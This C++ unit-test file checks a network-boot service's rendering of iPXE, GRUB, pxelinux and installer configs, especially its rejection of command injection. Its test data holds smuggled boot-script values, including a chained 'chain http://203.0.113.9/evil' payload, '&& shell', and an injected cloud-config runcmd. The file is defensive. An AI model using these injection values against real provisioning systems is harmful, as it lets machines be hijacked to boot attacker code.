#include "bootd/render/machine_scripts.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

namespace rackboot::bootd::render {
namespace {

Assignment MakeAssignment() {
  Assignment a;
  a.machine_name = "lab/node-01";
  a.hostname = "node-01";
  a.rack = "r1";
  InterfaceAssignment iface;
  iface.mac = *MacAddress::Parse("52:54:00:12:34:56");
  iface.ipv4 = *Ipv4Address::Parse("10.0.0.5");
  a.interfaces.push_back(iface);
  a.uuid = "11223344-5566-7788-99aa-bbccddeeff01";
  a.architecture = "x86_64";
  a.firmware = "uefi";
  a.boot.profile_name = "debian";
  a.boot.kernel.url = "debian/vmlinuz";
  a.boot.initrds.push_back({"debian/initrd.img", ""});
  a.boot.cmdline_template =
      "root=/dev/nfs nfsroot={{env.nfs-server}}:/srv/{{machine.hostname}} ip={{machine.ip}} {{params.extra}}";
  a.parameters["extra"] = "console=ttyS0";
  a.boot.install_configs["user-data"] = "#cloud-config\nhostname: {{machine.hostname}}\n";
  a.boot.install_configs["ks.cfg"] = "network --hostname={{machine.hostname}}\n";
  return a;
}

ScriptRequest MakeRequest() {
  ScriptRequest r;
  r.mac = *MacAddress::Parse("52:54:00:12:34:56");
  r.public_url = "http://192.0.2.1:8080";
  r.rack = "r1";
  r.environment["nfs-server"] = "192.0.2.10";
  return r;
}

std::vector<std::string> Lines(const std::string& s) {
  std::vector<std::string> out;
  size_t start = 0;
  while (start < s.size()) {
    size_t nl = s.find('\n', start);
    if (nl == std::string::npos) nl = s.size();
    out.push_back(s.substr(start, nl - start));
    start = nl + 1;
  }
  return out;
}

// iPXE commands: non-empty lines plus the && / || / ; chained parts.
size_t CountIpxeCommands(const std::string& script) {
  size_t n = 0;
  for (const auto& line : Lines(script)) {
    if (line.empty() || line[0] == '#') continue;
    ++n;
    for (const char* op : {" && ", " || ", " ; "}) {
      for (size_t p = line.find(op); p != std::string::npos; p = line.find(op, p + 1)) ++n;
    }
  }
  return n;
}

TEST(MachineScripts, DefaultIpxeScriptUsesAbsoluteUrlsAndInitrdNames) {
  auto r = RenderIpxeScript(MakeAssignment(), MakeRequest());
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(*r,
            "#!ipxe\n"
            "echo rackboot: lab/node-01 52:54:00:12:34:56 profile debian\n"
            "kernel http://192.0.2.1:8080/boot/52-54-00-12-34-56/debian/vmlinuz root=/dev/nfs "
            "nfsroot=192.0.2.10:/srv/node-01 ip=10.0.0.5 console=ttyS0 initrd=initrd.img\n"
            "initrd --name initrd.img http://192.0.2.1:8080/boot/52-54-00-12-34-56/debian/initrd.img\n"
            "boot\n");
}

TEST(MachineScripts, MenuHasEntriesDefaultTimeoutAndShell) {
  Assignment a = MakeAssignment();
  for (const char* n : {"debian", "rescue"}) {
    MenuEntry e;
    e.name = n;
    e.label = std::string("Boot ") + n;
    e.kernel.url = std::string(n) + "/vmlinuz";
    e.initrds.push_back({std::string(n) + "/initrd.img", ""});
    e.cmdline_template = "ip=dhcp";
    a.boot.menu.push_back(e);
  }
  a.boot.menu_default = "rescue";
  a.boot.menu_timeout_seconds = 10;
  auto r = RenderIpxeScript(a, MakeRequest());
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_NE(r->find("item debian Boot debian\n"), std::string::npos);
  EXPECT_NE(r->find("item rescue Boot rescue\n"), std::string::npos);
  EXPECT_NE(r->find("choose --default rescue --timeout 10000 target && goto ${target} || goto shell\n"),
            std::string::npos);
  EXPECT_NE(r->find(":rescue\nkernel http://192.0.2.1:8080/boot/52-54-00-12-34-56/rescue/vmlinuz ip=dhcp "
                    "initrd=initrd.img\n"),
            std::string::npos);
  EXPECT_NE(r->find(":shell\n"), std::string::npos);
  a.boot.menu[0].name = "bad name";
  EXPECT_FALSE(RenderIpxeScript(a, MakeRequest()).ok());
}

TEST(MachineScripts, GrubAndPxelinux) {
  auto g = RenderGrubConfig(MakeAssignment(), MakeRequest());
  ASSERT_TRUE(g.ok()) << g.error().message;
  EXPECT_NE(g->find("  linux (http,192.0.2.1:8080)/boot/52-54-00-12-34-56/debian/vmlinuz root=/dev/nfs"),
            std::string::npos);
  EXPECT_NE(g->find("  initrd (http,192.0.2.1:8080)/boot/52-54-00-12-34-56/debian/initrd.img\n"), std::string::npos);
  auto p = RenderPxelinuxConfig(MakeAssignment(), MakeRequest());
  ASSERT_TRUE(p.ok()) << p.error().message;
  EXPECT_NE(p->find("  INITRD http://192.0.2.1:8080/boot/52-54-00-12-34-56/debian/initrd.img\n"), std::string::npos);
  EXPECT_NE(p->find("  APPEND root=/dev/nfs nfsroot=192.0.2.10:/srv/node-01 ip=10.0.0.5 console=ttyS0\n"),
            std::string::npos);
}

TEST(MachineScripts, InstallConfigsEscapeForTheirLanguage) {
  Assignment a = MakeAssignment();
  auto ud = RenderInstallConfig(a, MakeRequest(), "user-data");
  ASSERT_TRUE(ud.ok()) << ud.error().message;
  EXPECT_EQ(*ud, "#cloud-config\nhostname: \"node-01\"\n");
  a.hostname = "x\nruncmd: [reboot]";
  ud = RenderInstallConfig(a, MakeRequest(), "user-data");
  ASSERT_TRUE(ud.ok());
  EXPECT_EQ(*ud, "#cloud-config\nhostname: \"x\\nruncmd: [reboot]\"\n");
  EXPECT_FALSE(RenderInstallConfig(a, MakeRequest(), "ks.cfg").ok());
  EXPECT_FALSE(RenderInstallConfig(a, MakeRequest(), "missing").ok());
  EXPECT_EQ(InstallConfigLanguage("preseed.cfg"), TargetLanguage::kPreseed);
  EXPECT_EQ(InstallConfigLanguage("meta-data"), TargetLanguage::kYaml);
}

TEST(MachineScripts, ConfigUrlsCarryTheToken) {
  Assignment a = MakeAssignment();
  a.boot.cmdline_template = "ds=nocloud-net;s={{config_base}} ks={{configs.ks.cfg}}";
  ScriptRequest req = MakeRequest();
  req.config_token = "abc.def";
  auto r = RenderIpxeScript(a, req);
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_NE(r->find("ds=nocloud-net;s=http://192.0.2.1:8080/config/52-54-00-12-34-56/t/abc.def/"), std::string::npos);
}

// Every hostile value, in every field a template can reach, is an error for
// every loader; none produces a script.
TEST(MachineScripts, InjectionInAnyFieldIsAnError) {
  const std::vector<std::string> hostile = {
      "x\nshell",   "x\r\nshell",           "a && shell",
      "a || shell", "${net0/mac}",          "#!ipxe",
      "a ; shell",  std::string(4096, 'A'), "x\n#!ipxe\nchain http://203.0.113.9/evil"};
  for (const auto& h : hostile) {
    for (int field = 0; field < 4; ++field) {
      Assignment a = MakeAssignment();
      ScriptRequest req = MakeRequest();
      if (field == 0) a.hostname = h;
      if (field == 1) a.parameters["extra"] = h;
      if (field == 2) req.environment["nfs-server"] = h;
      if (field == 3) a.machine_name = h;  // echoed by the default template
      EXPECT_FALSE(RenderIpxeScript(a, req).ok()) << "field " << field << " value " << h.substr(0, 40);
      if (field != 3) {
        // pxelinux.cfg is line-oriented: only line breaks and length matter.
        if (h.find('\n') != std::string::npos || h.size() > kMaxScriptValueBytes) {
          EXPECT_FALSE(RenderPxelinuxConfig(a, req).ok()) << "pxelinux field " << field << " " << h.substr(0, 40);
        }
        if (h.find_first_of("\n;&|$#") != std::string::npos || h.size() > kMaxScriptValueBytes) {
          EXPECT_FALSE(RenderGrubConfig(a, req).ok()) << "grub field " << field << " " << h.substr(0, 40);
        }
      }
    }
  }
}

TEST(MachineScripts, RenderedScriptNeverHasMoreCommandsThanItsTemplate) {
  Assignment a = MakeAssignment();
  a.boot.initrds.clear();  // no sections: template and script line up 1:1
  a.boot.ipxe_template =
      "#!ipxe\necho {{machine.hostname}} {{params.extra}}\nkernel {{kernel_url}} {{cmdline}}\nboot\n";
  const size_t template_commands = CountIpxeCommands(a.boot.ipxe_template);
  // Awkward but legal values render with the same number of commands...
  for (std::string v : {"a&b", "a|b", "x;y", "goto start", ":label", "echo", "-n", "&", "|", "#comment"}) {
    a.parameters["extra"] = v;
    a.hostname = "host-" + std::to_string(v.size());
    auto r = RenderIpxeScript(a, MakeRequest());
    ASSERT_TRUE(r.ok()) << v << ": " << r.error().message;
    EXPECT_EQ(CountIpxeCommands(*r), template_commands) << *r;
    EXPECT_EQ(Lines(*r).size(), Lines(a.boot.ipxe_template).size());
  }
  // ...and anything that would add one is refused.
  for (std::string v : {"a && reboot", "a || reboot", "x ; reboot", "x\nreboot"}) {
    a.parameters["extra"] = v;
    EXPECT_FALSE(RenderIpxeScript(a, MakeRequest()).ok()) << v;
  }
}

TEST(MachineScripts, HttpsArtifactIsAnErrorForIpxe) {
  Assignment a = MakeAssignment();
  a.boot.kernel.url = "https://example.com/vmlinuz";
  EXPECT_FALSE(RenderIpxeScript(a, MakeRequest()).ok());
  a.boot.kernel.url = "http://198.51.100.7/vmlinuz";
  auto r = RenderIpxeScript(a, MakeRequest());
  ASSERT_TRUE(r.ok());
  EXPECT_NE(r->find("kernel http://198.51.100.7/vmlinuz "), std::string::npos);
}

TEST(MachineScripts, OperatorTemplateMustBeIpxe) {
  Assignment a = MakeAssignment();
  a.boot.ipxe_template = "echo no magic\n";
  EXPECT_FALSE(RenderIpxeScript(a, MakeRequest()).ok());
}

TEST(MachineScripts, DiscoveryScriptEchoesAndExits) {
  std::string s = DiscoveryIpxeScript(*MacAddress::Parse("aa:bb:cc:dd:ee:ff"), "r1");
  EXPECT_EQ(s.rfind("#!ipxe\n", 0), 0u);
  EXPECT_NE(s.find("echo rackboot: no machine with MAC aa:bb:cc:dd:ee:ff is registered on rack r1"), std::string::npos);
  EXPECT_EQ(Lines(s).back(), "exit");
  EXPECT_EQ(DiscoveryIpxeScript(*MacAddress::Parse("aa:bb:cc:dd:ee:ff"), "r1\nshell").find("\nshell"),
            std::string::npos);
}

}  // namespace
}  // namespace rackboot::bootd::render
